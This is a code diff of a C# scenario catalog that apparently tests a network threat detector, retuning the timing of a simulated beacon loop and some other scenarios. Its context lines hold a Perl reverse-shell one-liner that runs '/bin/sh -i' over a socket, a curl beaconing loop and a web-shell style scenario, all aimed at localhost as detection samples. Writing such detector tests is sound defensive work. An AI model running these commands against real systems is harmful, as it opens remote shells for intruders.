@@ -14,9 +14,9 @@ internal static class ScenarioCatalog
 {
     public const string Python = "/usr/bin/python3";
 
-    // The beacon runs at 0.25 s +-20% instead of 1 s: the detector only looks at interval regularity
-    // (MAD/median, Bowley skew, histogram), so the scale does not matter and the suite stays short.
-    public const double BeaconSeconds = 0.25;
+    // The issue's 1 s +-20%. The detector ignores the interval's scale, but a shorter interval is swamped by
+    // process start-up jitter on a loaded 2-core machine; 30 s runs alongside the benign minute anyway.
+    public const double BeaconSeconds = 1.0;
     public const int BeaconCalls = 30;
 
     public static IReadOnlyList<Scenario> All(string id) =>
@@ -38,11 +38,11 @@ internal static class ScenarioCatalog
                 "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};"],
                 TimeSpan.FromSeconds(15))),
 
-        new("beacon loop (30 calls, 0.25 s +-20%)", true, "THREAT", null, "beacon", Mode.Http,
+        new("beacon loop (30 calls, 1 s +-20%)", true, "THREAT", null, "beacon", Mode.Http,
             (l, _) => Contexts.RunAsync(["/bin/bash", "-c",
                 $"for i in $(seq {BeaconCalls}); do curl -s -o /dev/null http://127.0.0.1:{l.Port}/b; " +
                 $"sleep $(awk -v r=$RANDOM 'BEGIN{{printf \"%.3f\", {BeaconSeconds.ToString(CultureInfo.InvariantCulture)}*(0.8+0.4*r/32767)}}'); done"],
-                TimeSpan.FromSeconds(40))),
+                TimeSpan.FromSeconds(70))),
 
         new("web server spawns sh -c curl (CGI)", true, "THREAT", null, "server-child", Mode.Http, WebShell),
 
@@ -60,7 +60,7 @@ internal static class ScenarioCatalog
             {
                 var cg = Contexts.Cgroup($"system.slice/n3t-db-{id}.service");
                 await Contexts.RunAsync(Contexts.InCgroup(cg, Python, "-c",
-                    "import socket,sys,time\ns=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\ntime.sleep(7)\ns.close()", Port(l)), TimeSpan.FromSeconds(20));
+                    "import socket,sys,time\ns=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\ntime.sleep(8)\ns.close()", Port(l)), TimeSpan.FromSeconds(20));
                 Contexts.RemoveCgroup(cg);
             }),
 
@@ -102,7 +102,7 @@ internal static class ScenarioCatalog
                 var cg = Contexts.Cgroup($"system.slice/n3t-sender-{id}.service");
                 await Contexts.RunAsync(Contexts.InCgroup(cg, Python, "-c",
                     "import socket,sys,time,random\nfor i in range(12):\n s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n" +
-                    " s.sendall(b'POST /m HTTP/1.0\\r\\n\\r\\n'); s.recv(100); s.close()\n time.sleep(0.3*random.uniform(0.9,1.1))", Port(l)),
+                    " s.sendall(b'POST /m HTTP/1.0\\r\\n\\r\\n'); s.recv(100); s.close()\n time.sleep(random.uniform(0.9,1.1))", Port(l)),
                     TimeSpan.FromSeconds(30));
                 Contexts.RemoveCgroup(cg);
             }),
